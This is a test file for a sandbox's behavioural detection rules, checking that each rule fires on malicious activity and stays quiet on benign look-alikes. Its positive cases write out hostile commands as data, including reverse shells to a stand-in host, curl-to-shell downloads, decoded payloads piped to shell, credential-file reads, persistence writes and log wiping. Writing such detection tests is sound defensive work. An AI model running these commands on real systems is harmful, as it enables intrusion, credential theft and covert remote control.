/**
 * The shipped rule set (sandbox-profiles/rules/*.yaml): it loads cleanly, every rule fires on
 * the behaviour it describes and not on its nearest benign look-alike, captured traces of the
 * sample images give the expected findings, and realistic benign start-ups stay at or below
 * `notice`.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { compileRules, PRIORITIES, type CompiledRuleSet, type Priority } from '../../../libs/analysis/src/rules/index.js';
import type { EvalContext, SandboxMetadata } from '../../../libs/analysis/src/state/context.js';
import {
  APT, DPKG, ENTRYPOINT, connect, connectUnix, dup2, exec, open, openFailed, parent, sandboxEvent, sys, sysFd, tcpClientFd,
} from './rule-cases.js';
import { INTEGRITY_CASES } from './integrity-cases.js';
import { replayStrace } from './trace-replay.js';
import { lureIndex } from '../../../libs/analysis/src/lures/lure-index.js';
import { ATTACK_COVERAGE_CASES } from './attack-coverage.cases.js';

const RULES_DIR = fileURLToPath(new URL('../../../sandbox-profiles/rules/', import.meta.url));
const FIXTURES = fileURLToPath(new URL('./__fixtures__/', import.meta.url));
const ruleFiles = readdirSync(RULES_DIR).filter((f) => f.endsWith('.yaml')).sort();
const sources = ruleFiles.map((f) => ({ name: `sandbox-profiles/rules/${f}`, text: readFileSync(RULES_DIR + f, 'utf8') }));
const rules: CompiledRuleSet = compileRules(sources);

const rank = (p: Priority): number => PRIORITIES.indexOf(p);
const NOTICE = rank('notice');
const fired = (ctx: EvalContext): string[] => rules.evaluate(ctx).map((m) => m.rule);
/** Matches more severe than notice. */
const aboveNotice = (ctxs: EvalContext[]): string[] =>
  ctxs.flatMap((c) => rules.evaluate(c).filter((m) => rank(m.priority) < NOTICE).map((m) => `${m.rule} <- ${c.event.type} ${c.proc.name} ${c.fd?.name ?? ''} ${JSON.stringify(c.event.args)}`));

describe('shipped rules load', () => {
  it('finds the rule files', () => {
    expect(ruleFiles).toContain('quarantine-rules.yaml');
  });

  it('every item of our files loads (no error, no skipped) and every rule is evaluated', () => {
    const bad = rules.report.filter((r) => r.status !== 'loaded');
    expect(bad).toEqual([]);
    expect(rules.notEvaluated).toEqual([]);
    expect(rules.ruleNames.length).toBeGreaterThanOrEqual(45);
  });

  it('every rule has a description, an output with fields, MITRE technique and tactic tags, and an event-type restriction', () => {
    const tactics = ['credential_access', 'persistence', 'privilege_escalation', 'defense_evasion', 'execution', 'discovery',
      'command_and_control', 'impact', 'lateral_movement', 'collection', 'exfiltration', 'initial_access'];
    for (const r of rules.rules) {
      expect({ rule: r.name, desc: r.desc.length > 20 }).toEqual({ rule: r.name, desc: true });
      expect({ rule: r.name, technique: r.tags.some((t) => /^T\d{4}(\.\d{3})?$/.test(t)) }).toEqual({ rule: r.name, technique: true });
      expect({ rule: r.name, tactic: r.tags.some((t) => tactics.includes(t)) }).toEqual({ rule: r.name, tactic: true });
      // Indexed by event type: never evaluated for every event.
      expect({ rule: r.name, types: r.eventTypes !== undefined && r.eventTypes.length > 0 }).toEqual({ rule: r.name, types: true });
    }
    const outputs = sources.map((s) => s.text).join('\n').match(/output: >\n(?:\s{4}.*\n)+/g) ?? [];
    for (const o of outputs) expect(o).toMatch(/%[a-z]+\.[a-z_]+/);
  });
});

// ------------------------------------------------------------------------------------------------
// One positive and one negative case (at least) per rule.
// ------------------------------------------------------------------------------------------------

interface Case { rule: string; positive: EvalContext[]; negative: EvalContext[] }

/** The context with this run's planted lures (fd.lure; lures.yaml). */
function withLures(c: EvalContext): EvalContext {
  c.sandbox = {
    ...c.sandbox,
    lures: lureIndex([
      { kind: 'aws-credentials', location: '/root/.aws/credentials', secrets: ['s'] },
      { kind: 'npmrc', location: '/home/app/.npmrc', secrets: ['s'] },
      { kind: 'k8s-token', location: '/var/run/secrets/kubernetes.io/serviceaccount/token', secrets: ['s'] },
    ]),
  };
  return c;
}

const shadowRead = open('/etc/shadow', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/local/bin/shadow-reader' });

const CASES: Case[] = [
  {
    rule: 'Password Hash File Read',
    positive: [shadowRead, open('/etc/gshadow', 'O_RDONLY', { exe: '/usr/bin/python3', args: ['python3', 'steal.py'] })],
    negative: [
      open('/etc/shadow', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/sbin/unix_chkpwd' }),
      open('/etc/shadow', 'O_RDONLY', { exe: '/usr/bin/su', name: 'su' }),
      open('/etc/shadow', 'O_RDONLY', { exe: '/usr/sbin/useradd', name: 'useradd' }),
      openFailed('/etc/shadow', 'O_RDONLY', 'EACCES', 13, { exe: '/usr/local/bin/app', uid: 1000 }),
      open('/etc/passwd', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/bin/id' }),
    ],
  },
  {
    rule: 'SSH Private Key Read',
    positive: [open('/root/.ssh/id_rsa', 'O_RDONLY', { exe: '/bin/cat' }), open('/etc/ssh/ssh_host_ed25519_key', 'O_RDONLY', { exe: '/usr/bin/python3' })],
    negative: [
      open('/root/.ssh/id_rsa', 'O_RDONLY', { exe: '/usr/bin/ssh' }),
      open('/etc/ssh/ssh_host_ed25519_key', 'O_RDONLY', { exe: '/usr/sbin/sshd' }),
      open('/root/.ssh/id_rsa.pub', 'O_RDONLY', { exe: '/bin/cat' }),
    ],
  },
  {
    rule: 'Cloud Credentials File Read',
    positive: [open('/root/.aws/credentials', 'O_RDONLY', { exe: '/bin/cat' }), open('/home/app/.kube/config', 'O_RDONLY', { exe: '/usr/bin/curl' })],
    negative: [open('/root/.aws/credentials', 'O_RDONLY', { exe: '/usr/local/bin/aws' }), open('/root/.aws/notes.txt', 'O_RDONLY', { exe: '/bin/cat' })],
  },
  {
    rule: 'Kubernetes Service Account Token Read',
    positive: [open('/var/run/secrets/kubernetes.io/serviceaccount/token', 'O_RDONLY', { exe: '/bin/cat' })],
    negative: [
      open('/var/run/secrets/kubernetes.io/serviceaccount/ca.crt', 'O_RDONLY', { exe: '/bin/cat' }),
      openFailed('/var/run/secrets/kubernetes.io/serviceaccount/token', 'O_RDONLY', 'ENOENT', 2, { exe: '/app/server' }),
    ],
  },
  {
    rule: 'Private Key or Secret Search',
    positive: [
      exec(['find', '/', '-name', 'id_rsa']),
      exec(['grep', '-r', 'BEGIN OPENSSH PRIVATE KEY', '/home']),
      exec(['grep', '-ri', 'aws_secret_access_key', '/']),
    ],
    negative: [exec(['find', '/var/www', '-name', '*.php']), exec(['grep', '-q', 'ready', '/tmp/status'])],
  },
  {
    rule: 'Dynamic Linker Preload Modified',
    positive: [
      open('/etc/ld.so.preload', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/local/bin/etc-writer' }, '0644'),
      openFailed('/etc/ld.so.preload', 'O_WRONLY|O_CREAT|O_TRUNC', 'EROFS', 30, { exe: '/tmp/x' }),
      sys('rename', { oldpath: '/tmp/p', newpath: '/etc/ld.so.preload' }, { exe: '/bin/mv' }),
      // cd /etc && mv /tmp/p ld.so.preload; cd /tmp && ln -s /tmp/p ../etc/ld.so.preload
      sys('rename', { oldpath: '/tmp/p', newpath: 'ld.so.preload' }, { exe: '/bin/mv', cwd: '/etc' }),
      sys('symlinkat', { target: '/tmp/p', linkdirfd: -100, linkpath: '../etc/ld.so.preload' }, { exe: '/bin/ln', cwd: '/tmp' }),
    ],
    negative: [
      open('/etc/ld.so.preload', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/bin/ls' }),
      // A link that points at ld.so.preload does not modify it.
      sys('symlinkat', { target: '/etc/ld.so.preload', linkdirfd: -100, linkpath: 'p' }, { exe: '/bin/ln', cwd: '/tmp' }),
    ],
  },
  {
    rule: 'Dynamic Linker Configuration Modified',
    positive: [open('/etc/ld.so.conf.d/evil.conf', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh' })],
    negative: [
      open('/etc/ld.so.conf.d/x86_64-linux-gnu.conf', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/bin/dpkg', parents: [APT] }),
      open('/etc/ld.so.conf', 'O_RDONLY', { exe: '/sbin/ldconfig' }),
    ],
  },
  {
    rule: 'Account Database Modified',
    positive: [
      open('/etc/passwd', 'O_WRONLY|O_APPEND', { exe: '/usr/local/bin/etc-writer' }),
      open('/etc/sudoers.d/backdoor', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh', parents: [ENTRYPOINT] }),
    ],
    negative: [
      open('/etc/passwd', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/sbin/useradd', parents: [ENTRYPOINT] }),
      open('/etc/passwd+', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/sbin/groupadd' }),
      open('/etc/passwd', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh', parents: [parent('adduser', ['-D', 'app'], '/bin/adduser')] }),
      open('/etc/group', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/bin/dpkg', parents: [APT] }),
      open('/etc/passwd', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/bin/id' }),
    ],
  },
  {
    rule: 'Cron Job Written',
    positive: [
      open('/etc/cron.d/x', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/local/bin/cron-persist' }, '0644'),
      open('/var/spool/cron/crontabs/root', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/bin/crontab' }),
      open('/etc/crontab', 'O_WRONLY|O_APPEND', { exe: '/bin/sh' }),
      sys('renameat', { olddirfd: -100, oldpath: 'job', newdirfd: -100, newpath: 'crontabs/root' }, { exe: '/bin/mv', cwd: '/var/spool/cron' }),
    ],
    negative: [
      sys('renameat', { olddirfd: -100, oldpath: 'job', newdirfd: -100, newpath: '../../../tmp/job.bak' }, { exe: '/bin/mv', cwd: '/var/spool/cron' }),
      open('/etc/cron.daily/apt-compat', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/bin/dpkg', parents: [APT] }),
      open('/etc/crontab', 'O_RDONLY', { exe: '/usr/sbin/cron' }),
      // A cron service image's entrypoint installing its schedule (Cron Schedule Installed by Cron Service).
      open('/etc/cron.d/app', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/bash', name: 'docker-entrypoi', args: ['/usr/local/bin/docker-entrypoint.sh', 'cron', '-f'] }),
    ],
  },
  {
    rule: 'Cron Schedule Installed by Cron Service',
    positive: [
      open('/etc/cron.d/app', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/bash', name: 'docker-entrypoi', args: ['/usr/local/bin/docker-entrypoint.sh', 'cron', '-f'] }),
      open('/etc/crontabs/root', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh', parents: [parent('sh', ['/entrypoint.sh', 'crond', '-f'])] }),
    ],
    negative: [
      open('/etc/cron.d/x', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/local/bin/cron-persist' }, '0644'),
      open('/etc/cron.d/app', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/bash', name: 'docker-entrypoi', args: ['/usr/local/bin/docker-entrypoint.sh', 'nginx'] }),
    ],
  },
  {
    rule: 'SSH Authorized Keys Modified',
    positive: [
      open('/root/.ssh/authorized_keys', 'O_WRONLY|O_CREAT|O_APPEND', { exe: '/usr/local/bin/cron-persist' }, '0600'),
      sys('rename', { oldpath: '/tmp/k', newpath: '/home/app/.ssh/authorized_keys' }, { exe: '/bin/mv' }),
      sys('rename', { oldpath: 'k.tmp', newpath: 'authorized_keys' }, { exe: '/bin/mv', cwd: '/root/.ssh' }),
    ],
    negative: [
      sys('rename', { oldpath: 'authorized_keys', newpath: 'authorized_keys.old' }, { exe: '/bin/mv', cwd: '/root/.ssh' }),open('/root/.ssh/authorized_keys', 'O_RDONLY', { exe: '/usr/sbin/sshd' }), open('/root/.ssh/known_hosts', 'O_WRONLY|O_APPEND', { exe: '/usr/bin/ssh' })],
  },
  {
    rule: 'Shell Startup File Modified',
    positive: [open('/root/.bashrc', 'O_WRONLY|O_APPEND', { exe: '/bin/sh' }), open('/etc/profile.d/zz.sh', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/bin/python3' })],
    negative: [
      open('/home/app/.bashrc', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/sbin/useradd' }),
      open('/root/.bashrc', 'O_RDONLY', { exe: '/bin/bash' }),
    ],
  },
  {
    rule: 'Init or Service Persistence Written',
    positive: [open('/etc/systemd/system/update.service', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh' }), open('/etc/rc.local', 'O_WRONLY|O_APPEND', { exe: '/bin/sh' })],
    negative: [open('/lib/systemd/system/nginx.service', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/bin/dpkg', parents: [APT] })],
  },
  {
    rule: 'Write Below Etc',
    positive: [open('/etc/evil.conf', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh' })],
    negative: [
      open('/etc/nginx/conf.d/default.conf', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/bin/envsubst', parents: [ENTRYPOINT] }),
      open('/etc/apt/sources.list.d/x.list', 'O_WRONLY|O_CREAT', { exe: '/usr/bin/dpkg', parents: [APT] }),
      open('/etc/hosts', 'O_WRONLY|O_APPEND', { exe: '/bin/sh', parents: [ENTRYPOINT] }),
      open('/etc/os-release', 'O_RDONLY', { exe: '/bin/cat' }),
    ],
  },
  {
    rule: 'Write Below Binary Directory',
    positive: [
      open('/usr/bin/ls', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/tmp/.x' }),
      sys('rename', { oldpath: '/tmp/kworker', newpath: '/usr/local/bin/kworker' }, { exe: '/bin/mv' }),
      // cd /tmp && mv kworker ../usr/bin/; cd /usr/local/bin && ln -s /tmp/kworker sudo
      sys('renameat2', { olddirfd: -100, oldpath: 'kworker', newdirfd: -100, newpath: '../usr/bin/kworker', flags: '0' }, { exe: '/bin/mv', cwd: '/tmp' }),
      sys('symlinkat', { target: '/tmp/kworker', linkdirfd: -100, linkpath: 'sudo' }, { exe: '/bin/ln', cwd: '/usr/local/bin' }),
    ],
    negative: [
      // ln -s /bin/busybox /tmp/sh: the link is in /tmp, it only points into /bin.
      sys('symlinkat', { target: '/bin/busybox', linkdirfd: -100, linkpath: 'sh' }, { exe: '/bin/ln', cwd: '/tmp' }),
      // Moving something out of /usr/local/bin, or a refused rename into it.
      sys('rename', { oldpath: 'tool', newpath: '/tmp/tool' }, { exe: '/bin/mv', cwd: '/usr/local/bin' }),
      sys('rename', { oldpath: '/tmp/x', newpath: '/usr/bin/x' }, { exe: '/bin/mv' }, 'EROFS', -30),
      // An absolute path that only looks like it is below /bin.
      sys('rename', { oldpath: '/tmp/x', newpath: '/bin/../tmp/y' }, { exe: '/bin/mv' }),
      open('/usr/bin/curl', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/bin/dpkg', parents: [APT] }),
      open('/usr/local/bin/flask', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/local/bin/python3.12', name: 'pip', parents: [ENTRYPOINT] }),
      open('/usr/bin/ls', 'O_RDONLY|O_CLOEXEC', { exe: '/bin/sh' }),
    ],
  },
  {
    rule: 'Setuid or Setgid Bit Set',
    positive: [
      sys('chmod', { filename: '/tmp/x.ko', mode: '04755' }, { exe: '/usr/local/bin/escape' }, 'EPERM', -1),
      sys('fchmodat', { dirfd: -100, filename: '/usr/local/bin/rootme', mode: '02755' }, { exe: '/bin/chmod' }),
      sys('fchmodat', { dirfd: -100, filename: 'rootme', mode: '04755' }, { exe: '/bin/chmod', cwd: '/tmp' }),
    ],
    negative: [
      sys('chmod', { filename: '/tmp/.x', mode: '0755' }, { exe: '/usr/local/bin/dropper' }),
      sys('fchmodat', { dirfd: -100, filename: '/usr/bin/sudo', mode: '04755' }, { exe: '/usr/bin/dpkg', parents: [APT] }),
      sys('chmod', { filename: '/tmp', mode: '01777' }, { exe: '/bin/chmod' }),
      // postgres' official entrypoint: setgid + sticky on its socket directory.
      sys('fchmodat', { dirfd: -100, filename: '/var/run/postgresql', mode: '03775' }, { exe: '/bin/chmod', parents: [ENTRYPOINT] }),
      sys('chmod', { filename: '/srv/shared', mode: '03770' }, { exe: '/bin/chmod' }),
    ],
  },
  {
    rule: 'Log File Cleared',
    positive: [
      open('/var/log/auth.log', 'O_WRONLY|O_TRUNC', { exe: '/bin/sh' }),
      sys('truncate', { path: '/var/log/syslog', length: 0 }, { exe: '/usr/bin/truncate' }),
      sys('unlinkat', { dirfd: -100, name: '/var/log/wtmp', flags: '0' }, { exe: '/bin/rm' }),
      // cd /var/log && rm syslog; cd /var/log/nginx && rm ../auth.log; cd /var/log && truncate -s0 btmp
      sys('unlinkat', { dirfd: -100, name: 'syslog', flags: '0' }, { exe: '/bin/rm', cwd: '/var/log' }),
      sys('unlink', { path: '../auth.log' }, { exe: '/bin/rm', cwd: '/var/log/nginx' }),
      sys('truncate', { path: 'btmp', length: 0 }, { exe: '/usr/bin/truncate', cwd: '/var/log' }),
      // A refused absolute attempt still counts.
      sys('unlinkat', { dirfd: -100, name: '/var/log/lastlog', flags: '0' }, { exe: '/bin/rm' }, 'EACCES', -13),
    ],
    negative: [
      sys('unlinkat', { dirfd: -100, name: 'app.pid', flags: '0' }, { exe: '/bin/rm', cwd: '/var/run' }),
      sys('unlinkat', { dirfd: -100, name: '../tmp/x', flags: '0' }, { exe: '/bin/rm', cwd: '/var/log' }),
      sys('unlinkat', { dirfd: -100, name: 'syslog', flags: '0' }, { exe: '/usr/sbin/logrotate', name: 'logrotate', cwd: '/var/log' }),
      open('/var/log/nginx/access.log', 'O_WRONLY|O_CREAT|O_APPEND', { exe: '/usr/sbin/nginx' }),
      open('/var/log/app.log', 'O_WRONLY|O_TRUNC', { exe: '/usr/sbin/logrotate' }),
    ],
  },
  {
    rule: 'Shell History Tampered',
    positive: [
      sys('unlink', { path: '/root/.bash_history' }, { exe: '/bin/rm' }),
      sys('symlink', { target: '/dev/null', linkpath: '/root/.bash_history' }, { exe: '/bin/ln' }),
      sys('unlinkat', { dirfd: -100, name: '.bash_history', flags: '0' }, { exe: '/bin/rm', cwd: '/root' }),
      sys('symlinkat', { target: '/dev/null', linkdirfd: -100, linkpath: '.ash_history' }, { exe: '/bin/ln', cwd: '/root' }),
      exec(['/bin/sh', '-i'], { env: ['PATH=/bin', 'HISTFILE=/dev/null'] }),
    ],
    negative: [
      open('/root/.bash_history', 'O_WRONLY|O_CREAT|O_APPEND', { exe: '/bin/bash' }),
      sys('unlink', { path: '/tmp/history.tmp' }, { exe: '/bin/rm' }),
      exec(['/bin/sh', '-c', 'echo hi'], { env: ['PATH=/bin', 'HISTSIZE=1000'] }),
    ],
  },
  {
    rule: 'Outbound Socket Redirected to Standard Streams',
    positive: [dup2(0, tcpClientFd('10.66.66.66', 4444), { exe: '/usr/local/bin/revshell' }), dup2(1, { ...tcpClientFd('10.0.0.1', 443), connected: true })],
    negative: [
      dup2(1, { num: 1, type: 'file', name: '/etc/evil.conf' }),
      dup2(1, { num: 1, type: 'pipe', name: 'pipe:[1]' }),
      dup2(5, tcpClientFd('10.0.0.1', 443)),
      dup2(0, { ...tcpClientFd('10.0.0.1', 443), isServer: true, connected: true }),
    ],
  },
  {
    rule: 'Inbound Socket Redirected to Standard Streams',
    positive: [
      dup2(0, { num: 0, type: 'ipv4', name: '10.0.0.9:5555->0.0.0.0:4444', cip: '10.0.0.9', cport: 5555, sip: '0.0.0.0', sport: 4444, isServer: true, connected: true }, { exe: '/tmp/bind' }),
      // busybox's nc applet as a bind shell is not excused by the httpd exception
      dup2(0, { num: 0, type: 'ipv4', name: '10.0.0.9:5555->0.0.0.0:4444', isServer: true, connected: true }, { exe: '/bin/busybox', args: ['busybox', 'nc', '-lp', '4444', '-e', '/bin/sh'] }),
    ],
    negative: [
      dup2(0, { num: 0, type: 'ipv4', name: '10.0.0.9:5555->0.0.0.0:23', isServer: true, connected: true }, { exe: '/usr/sbin/inetd' }),
      // busybox httpd -f hands each connection to a child on stdio (seen when stimulation visits it)
      dup2(0, { num: 0, type: 'ipv4', name: '::1:57414->:::8080', isServer: true, connected: true }, { exe: '/bin/busybox', args: ['busybox', 'httpd', '-f', '-p', '8080'] }),
      dup2(0, tcpClientFd('10.0.0.1', 443)),
    ],
  },
  {
    rule: 'Reverse Shell Command Line',
    positive: [
      exec(['bash', '-c', 'bash -i >& /dev/tcp/10.66.66.66/4444 0>&1'], { exe: '/bin/bash' }),
      exec(['nc', '-e', '/bin/sh', '10.66.66.66', '4444']),
      exec(['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("10.66.66.66",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")']),
      exec(['socat', 'tcp:10.66.66.66:4444', 'exec:/bin/sh,pty,stderr']),
      exec(['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.66.66.66 4444 >/tmp/f'], { exe: '/bin/sh' }),
    ],
    negative: [
      exec(['bash', '-c', 'until cat < /dev/null > /dev/tcp/db/5432; do sleep 1; done'], { exe: '/bin/bash' }),
      exec(['nc', '-z', '-w', '1', 'db', '5432']),
      exec(['grep', '-e', 'shadow', '/etc/group']),
      exec(['socat', 'TCP-LISTEN:8080,fork', 'TCP:app:80']),
    ],
  },
  {
    rule: 'Interactive Shell Without Terminal',
    positive: [exec(['/bin/sh', '-i'], { exe: '/bin/sh' }), exec(['bash', '-li'], { exe: '/bin/bash' })],
    negative: [
      exec(['/bin/sh', '-i'], { exe: '/bin/sh', tty: 34816 }),
      exec(['/bin/sh', '-c', 'sed -i s/a/b/ /etc/app.conf'], { exe: '/bin/sh' }),
      exec(['/bin/sh', '/docker-entrypoint.sh'], { exe: '/bin/sh' }),
    ],
  },
  {
    rule: 'Decoded Payload Piped to Shell',
    positive: [
      exec(['sh', '-c', 'echo ZWNobyBwd25lZAo= | base64 -d | sh'], { exe: '/bin/sh' }),
      exec(['bash', '-c', 'echo ZWNobyBwd25lZAo= | base64 --decode | bash'], { exe: '/bin/bash' }),
      exec(['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))']),
    ],
    negative: [
      exec(['sh', '-c', 'echo $CERT | base64 -d > /etc/ssl/certs/app.pem'], { exe: '/bin/sh' }),
      exec(['sh', '-c', 'cat /app/token | base64 | tr -d "\\n"'], { exe: '/bin/sh' }),
    ],
  },
  {
    rule: 'Remote Script Piped to Shell',
    positive: [exec(['sh', '-c', 'curl -fsSL http://10.66.66.66/x.sh | sh'], { exe: '/bin/sh' }), exec(['sh', '-c', 'wget -qO- http://10.66.66.66/i | bash -s'], { exe: '/bin/sh' })],
    negative: [exec(['sh', '-c', 'curl -fsS http://localhost:8080/health | grep ok'], { exe: '/bin/sh' }), exec(['sh', '-c', 'curl -o /tmp/x http://10.66.66.66/x'], { exe: '/bin/sh' })],
  },
  {
    rule: 'Fileless Execution From Memory',
    positive: [
      makeExecveat(),
      exec(['/proc/self/fd/3', 'x'], { exe: '/memfd:payload (deleted)', name: '3', exeFromMemfd: true }),
    ],
    negative: [exec(['/bin/busybox', 'echo', 'pwned'], { exe: '/bin/busybox' })],
  },
  {
    rule: 'Executable Written to Memory File',
    positive: [sysFd('write', { fd: 3, data: '\x7fELF\x02\x01\x01\x00', size: 65536 }, { num: 3, type: 'memfd', name: 'memfd:kworker' }, { exe: '/usr/local/bin/memfd-exec' }, 65536, 65536)],
    negative: [
      sysFd('write', { fd: 3, data: 'hello', size: 5 }, { num: 3, type: 'memfd', name: 'memfd:shm' }, {}, 5, 5),
      sysFd('write', { fd: 3, data: '\x7fELF\x02\x01', size: 6 }, { num: 3, type: 'file', name: '/app/bin/tool' }, {}, 6, 6),
    ],
  },
  {
    rule: 'Drop and Execute',
    positive: [exec(['/tmp/.x'], { exe: '/tmp/.x', exeWritten: true }), exec(['/usr/local/bin/helper'], { exe: '/usr/local/bin/helper', exeWritten: true })],
    negative: [exec(['/usr/local/bin/app'], { exe: '/usr/local/bin/app' })],
  },
  {
    rule: 'Execution From Temporary Directory',
    positive: [exec(['/tmp/.x'], { exe: '/tmp/.x' }), exec(['/dev/shm/kworker'], { exe: '/dev/shm/kworker' })],
    negative: [exec(['/usr/bin/python3', '/tmp/script.py'], { exe: '/usr/bin/python3' }), exec(['/app/tmp/server'], { exe: '/app/tmp/server' })],
  },
  {
    rule: 'Hidden File Executed',
    positive: [exec(['/tmp/.x'], { exe: '/tmp/.x' }), exec(['/root/.cache/.kworker'], { exe: '/root/.cache/.kworker' })],
    negative: [
      exec(['/opt/app/.venv/bin/python', 'app.py'], { exe: '/opt/app/.venv/bin/python' }),
      exec(['/root/.local/bin/poetry', 'run'], { exe: '/root/.local/bin/poetry' }),
    ],
  },
  {
    rule: 'Executable Bit Set in Temporary Directory',
    positive: [
      sys('chmod', { filename: '/tmp/.x', mode: '0755' }, { exe: '/usr/local/bin/dropper' }),
      sys('fchmodat', { dirfd: -100, filename: '/dev/shm/p', mode: '0100755' }, { exe: '/bin/chmod' }),
      sys('fchmodat', { dirfd: -100, filename: 'payload', mode: '0755' }, { exe: '/bin/chmod', cwd: '/tmp' }),
      open('/tmp/dropper', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/cp' }, '0100755'),
    ],
    negative: [
      sys('chmod', { filename: '/tmp/data.txt', mode: '0644' }, { exe: '/bin/chmod' }),
      sys('chmod', { filename: '/app/run.sh', mode: '0755' }, { exe: '/bin/chmod' }),
      sys('chmod', { filename: 'run.sh', mode: '0755' }, { exe: '/bin/chmod', cwd: '/app' }),
      sys('chmod', { filename: '../app/run.sh', mode: '0755' }, { exe: '/bin/chmod', cwd: '/tmp' }),
      open('/tmp/tmpwriter/chunk-0.txt', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/local/bin/tmpwriter' }, '0644'),
    ],
  },
  {
    rule: 'Outbound Connection Attempt',
    positive: [connect('10.66.66.66', 4444), connect('2001:db8::1', 443)],
    negative: [
      connect('127.0.0.1', 5432), connect('::1', 6379), connectUnix('/var/run/nscd/socket'),
      // getaddrinfo sorting a service's own wildcard listen addresses (UDP connect, nothing sent).
      connect('0.0.0.0', 5432), connect('::', 5432),
      sysFd('connect', { fd: 3, addr: 'AF_UNSPEC' }, { num: 3, type: 'ipv6', name: ':::0', l4proto: 'udp', family: 'ip6' }),
    ],
  },
  {
    rule: 'Mining Pool Connection Attempt',
    positive: [connect('10.66.66.66', 3333, { exe: '/usr/local/bin/miner-connect' }), connect('10.66.66.66', 14444)],
    negative: [connect('10.66.66.66', 443), connect('127.0.0.1', 3333)],
  },
  {
    rule: 'Cryptominer Activity',
    positive: [
      exec(['xmrig', '-o', 'pool.example:3333']),
      exec(['/tmp/kthreadd', '-o', 'stratum+tcp://10.66.66.66:3333', '-u', 'wallet'], { exe: '/tmp/kthreadd' }),
      sysFd('write', { fd: 3, data: '{"id":1,"method":"mining.subscribe","params":[]}\n', size: 48 }, { ...tcpClientFd('10.66.66.66', 3333), connected: true }, {}, 48, 48),
    ],
    negative: [
      exec(['/usr/bin/node', 'server.js'], { exe: '/usr/bin/node' }),
      sysFd('write', { fd: 3, data: 'GET / HTTP/1.1\r\n', size: 16 }, { ...tcpClientFd('10.66.66.66', 80), connected: true }, {}, 16, 16),
    ],
  },
  {
    rule: 'Cloud Metadata Service Contact',
    positive: [connect('169.254.169.254', 80, { exe: '/usr/local/bin/miner-connect' }), connect('fd00:ec2::254', 80)],
    negative: [connect('169.254.1.1', 80), connect('10.66.66.66', 80)],
  },
  {
    rule: 'Kubernetes API Server Contact',
    positive: [connect('10.96.0.1', 443), connect('10.66.66.66', 6443), exec(['kubectl', 'get', 'secrets', '-A'])],
    negative: [connect('10.96.0.10', 53), connect('10.66.66.66', 443)],
  },
  {
    rule: 'Container Runtime Socket Access',
    positive: [
      connectUnix('/var/run/docker.sock'),
      connectUnix('/run/containerd/containerd.sock', {}, 0),
      openFailed('/var/run/docker.sock', 'O_RDWR', 'ENOENT', 2),
    ],
    negative: [connectUnix('/var/run/nscd/socket'), connectUnix('/tmp/.s.PGSQL.5432', {}, 0)],
  },
  {
    rule: 'Packet Socket Created',
    positive: [sysFd('socket', { domain: 'AF_PACKET', type: 'SOCK_RAW', proto: '768' }, { num: 3, type: 'packet', name: '' }, { exe: '/tmp/sniff' }, 3, 3)],
    negative: [
      sysFd('socket', { domain: 'AF_INET', type: 'SOCK_STREAM', proto: 'IPPROTO_IP' }, { num: 3, type: 'ipv4', name: '' }, {}, 3, 3),
      sysFd('socket', { domain: 'AF_PACKET', type: 'SOCK_DGRAM', proto: '768' }, { num: 3, type: 'packet', name: '' }, { exe: '/sbin/udhcpc' }, 3, 3),
    ],
  },
  {
    rule: 'Network Scanner or Sniffer Launched',
    positive: [exec(['nmap', '-sS', '10.0.0.0/24']), exec(['tcpdump', '-i', 'any', '-w', '/tmp/c.pcap'])],
    negative: [exec(['ping', '-c', '1', 'db']), exec(['curl', 'http://localhost/'])],
  },
  {
    rule: 'Netcat-like Tool Launched',
    positive: [exec(['nc', '-lvp', '4444']), exec(['ncat', '10.66.66.66', '9001'])],
    negative: [exec(['nc', '-z', '-w', '1', 'db', '5432']), exec(['nc', '-zv', 'redis', '6379']), exec(['curl', 'http://db:5432'])],
  },
  {
    rule: 'Ptrace Attach to Process',
    positive: [sys('ptrace', { request: 'PTRACE_ATTACH', pid: 1 }, { exe: '/usr/local/bin/escape' }), sys('ptrace', { request: 'PTRACE_POKETEXT', pid: 42 }, {}, 'EPERM', -1)],
    negative: [sys('ptrace', { request: 'PTRACE_ATTACH', pid: 42 }, { exe: '/usr/bin/gdb' }), sys('ptrace', { request: 'PTRACE_TRACEME', pid: 0 })],
  },
  {
    rule: 'Anti-Debugging via Ptrace',
